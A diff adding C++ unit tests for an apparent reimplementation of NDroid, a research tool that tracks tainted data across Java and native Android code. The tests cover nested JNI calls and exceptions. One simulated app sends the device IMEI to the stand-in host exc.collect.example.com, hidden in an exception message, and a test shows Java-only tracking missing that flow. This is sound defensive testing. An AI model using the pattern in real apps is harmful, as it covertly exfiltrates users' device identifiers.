@@ -1,0 +1,210 @@
+// Deep JNI flow tests: nested native<->Java call stacks (the LIFO discipline
+// of the JNI-entry phase machine) and the exception group of the DVM Hook
+// Engine (paper §V-B "Exception": taint carried by a thrown exception's
+// message).
+#include <gtest/gtest.h>
+
+#include "apps/native_lib_builder.h"
+#include "core/ndroid.h"
+
+namespace ndroid::core {
+namespace {
+
+using android::Device;
+using arm::LR;
+using arm::PC;
+using arm::R;
+using arm::SP;
+using dvm::CodeBuilder;
+using dvm::kAccPublic;
+using dvm::kAccStatic;
+using dvm::Method;
+
+TEST(NestedJni, JavaNativeJavaNativeTaintSurvives) {
+  // main -> nativeOuter(x) -> Java relay(x) -> nativeInner(x) -> returns x.
+  // The taint must survive both boundary crossings in each direction.
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+  dvm::ClassObject* app = dvm.define_class("Lnest/App;");
+
+  apps::NativeLibBuilder lib(device, "libnest.so");
+  auto& a = lib.a();
+
+  // int nativeInner(JNIEnv*, jclass, int x) { return x + 1; }
+  const GuestAddr fn_inner = lib.fn();
+  a.add_imm(R(0), R(2), 1);
+  a.ret();
+
+  const GuestAddr cls_name = lib.cstr("nest/App");
+  const GuestAddr relay_name = lib.cstr("relay");
+
+  // int nativeOuter(JNIEnv*, jclass, int x):
+  //   calls the Java method relay(x) via CallStaticIntMethodA.
+  const GuestAddr fn_outer = lib.fn();
+  a.push({R(4), R(5), R(6), LR});
+  a.mov(R(4), R(0));  // env
+  a.mov(R(5), R(2));  // x
+  a.mov_imm32(R(1), cls_name);
+  a.call(device.jni.fn("FindClass"));
+  a.mov(R(6), R(0));
+  a.mov(R(0), R(4));
+  a.mov(R(1), R(6));
+  a.mov_imm32(R(2), relay_name);
+  a.mov_imm(R(3), 0);
+  a.call(device.jni.fn("GetStaticMethodID"));
+  a.mov(R(2), R(0));  // mid
+  a.sub_imm(SP, SP, 8);
+  a.str(R(5), SP, 0);  // args[0] = x
+  a.mov(R(0), R(4));
+  a.mov(R(1), R(6));
+  a.mov(R(3), SP);
+  a.call(device.jni.fn("CallStaticIntMethodA"));
+  a.add_imm(SP, SP, 8);
+  a.add_imm(R(0), R(0), 100);
+  a.pop({R(4), R(5), R(6), PC});
+  lib.install();
+
+  Method* inner = dvm.define_native(app, "inner", "II",
+                                    kAccPublic | kAccStatic, fn_inner);
+  // int relay(int x) { return inner(x) + 10; }
+  CodeBuilder relay_cb;
+  relay_cb.invoke(inner, {2}).move_result(0).add_imm(0, 0, 10)
+      .return_value(0);
+  dvm.define_method(app, "relay", "II", kAccPublic | kAccStatic, 3,
+                    relay_cb.take());
+  Method* outer = dvm.define_native(app, "outer", "II",
+                                    kAccPublic | kAccStatic, fn_outer);
+
+  const dvm::Slot r = dvm.call(*outer, {dvm::Slot{1, kTaintImei}});
+  EXPECT_EQ(r.value, 112u);  // ((1 + 1) + 10) + 100
+  EXPECT_EQ(r.taint & kTaintImei, kTaintImei);
+  // Two JNI entries means two SourcePolicies with tainted args.
+  EXPECT_EQ(nd.dvm_hooks().source_policies_created, 2u);
+  EXPECT_EQ(nd.dvm_hooks().source_policies_applied, 2u);
+  EXPECT_GE(nd.dvm_hooks().jni_exit_restores, 1u);
+}
+
+struct ExceptionApp {
+  Method* entry;
+};
+
+ExceptionApp build_exception_carrier(Device& device) {
+  auto& dvm = device.dvm;
+  dvm::ClassObject* exc_cls = dvm.define_class("Ljava/io/IOException;");
+  exc_cls->add_instance_field("message", 'L');
+  dvm::ClassObject* app = dvm.define_class("Lexc/App;");
+
+  apps::NativeLibBuilder lib(device, "libexc.so");
+  auto& a = lib.a();
+  const GuestAddr exc_name = lib.cstr("java/io/IOException");
+
+  // void thrower(JNIEnv*, jclass, jstring secret):
+  //   p = GetStringUTFChars(secret); ThrowNew(env, IOException, p);
+  const GuestAddr fn_thrower = lib.fn();
+  a.push({R(4), R(5), LR});
+  a.mov(R(4), R(0));
+  a.mov(R(1), R(2));
+  a.mov_imm(R(2), 0);
+  a.call(device.jni.fn("GetStringUTFChars"));
+  a.mov(R(5), R(0));  // message cstr (tainted via the TrustCall hook)
+  a.mov(R(0), R(4));
+  a.mov_imm32(R(1), exc_name);
+  a.call(device.jni.fn("FindClass"));
+  a.mov(R(1), R(0));
+  a.mov(R(0), R(4));
+  a.mov(R(2), R(5));
+  a.call(device.jni.fn("ThrowNew"));
+  a.pop({R(4), R(5), PC});
+  lib.install();
+
+  Method* thrower = dvm.define_native(app, "thrower", "VL",
+                                      kAccPublic | kAccStatic, fn_thrower);
+  Method* src = device.framework.telephony->find_method("getDeviceId");
+  Method* sink = device.framework.network->find_method("send");
+
+  // main: s = getDeviceId(); thrower(s);
+  //       exc = <pending>; msg = exc.message; send(host, msg)
+  const dvm::Field* msg_field = exc_cls->find_instance_field("message");
+  CodeBuilder cb;
+  cb.invoke(src, {})
+      .move_result(0)
+      .invoke(thrower, {0})
+      .move_exception(1)
+      .iget(2, 1, msg_field->index)
+      .const_string(3, "exc.collect.example.com")
+      .invoke(sink, {3, 2})
+      .return_void();
+  Method* entry = dvm.define_method(app, "main", "V",
+                                    kAccPublic | kAccStatic, 4, cb.take());
+  return ExceptionApp{entry};
+}
+
+TEST(ExceptionCarrier, TaintFlowsThroughThrowNew) {
+  Device device;
+  NDroid nd(device);
+  const ExceptionApp app = build_exception_carrier(device);
+  device.dvm.call(*app.entry, {});
+
+  // The IMEI left through the exception message.
+  EXPECT_EQ(device.kernel.network().bytes_sent_to("exc.collect.example.com"),
+            "354958031234567");
+  // NDroid's ThrowNew hook tainted the message string; the Java sink fired.
+  ASSERT_FALSE(device.framework.leaks().empty());
+  EXPECT_EQ(device.framework.leaks()[0].taint, kTaintImei);
+  EXPECT_TRUE(nd.log().contains("ThrowNew Begin"));
+  EXPECT_TRUE(nd.log().contains("to exception message"));
+}
+
+TEST(ExceptionCarrier, MissedByTaintDroidAlone) {
+  Device device;
+  const ExceptionApp app = build_exception_carrier(device);
+  device.dvm.call(*app.entry, {});
+  EXPECT_FALSE(device.kernel.network()
+                   .bytes_sent_to("exc.collect.example.com")
+                   .empty());
+  EXPECT_TRUE(device.framework.leaks().empty());
+}
+
+TEST(NestedJni, ArgumentArrayOnStackCarriesTaint) {
+  // Stacked JNI arguments (position >= 4) must be tainted via the
+  // SourcePolicy stack_args_taints path and be recoverable by iref.
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+  dvm::ClassObject* app = dvm.define_class("Lstk/App;");
+
+  apps::NativeLibBuilder lib(device, "libstk.so");
+  auto& a = lib.a();
+  // int f(JNIEnv*, jclass, int, int, jstring s):
+  //   s is JNI position 4 (stacked); GetStringUTFChars(s); return strlen.
+  const GuestAddr fn = lib.fn();
+  a.push({R(4), LR});
+  a.ldr(R(1), SP, 8);  // stacked arg (entry [sp], +8 for the two pushes)
+  a.mov_imm(R(2), 0);
+  a.call(device.jni.fn("GetStringUTFChars"));
+  a.call(device.libc.fn("strlen"));
+  a.pop({R(4), PC});
+  lib.install();
+
+  Method* f = dvm.define_native(app, "f", "IIIL",
+                                kAccPublic | kAccStatic, fn);
+  Method* src = device.framework.contacts->find_method("queryContacts");
+  CodeBuilder cb;
+  cb.const_imm(0, 1)
+      .const_imm(1, 2)
+      .invoke(src, {})
+      .move_result(2)
+      .invoke(f, {0, 1, 2})
+      .move_result(3)
+      .return_value(3);
+  Method* entry = dvm.define_method(app, "main", "I",
+                                    kAccPublic | kAccStatic, 4, cb.take());
+  const dvm::Slot r = dvm.call(*entry, {});
+  EXPECT_EQ(r.value, 19u);  // strlen("1|Vincent|cx@gg.com")
+  // strlen's model taints the result from the (tainted) buffer bytes.
+  EXPECT_EQ(r.taint & kTaintContacts, kTaintContacts);
+}
+
+}  // namespace
+}  // namespace ndroid::core
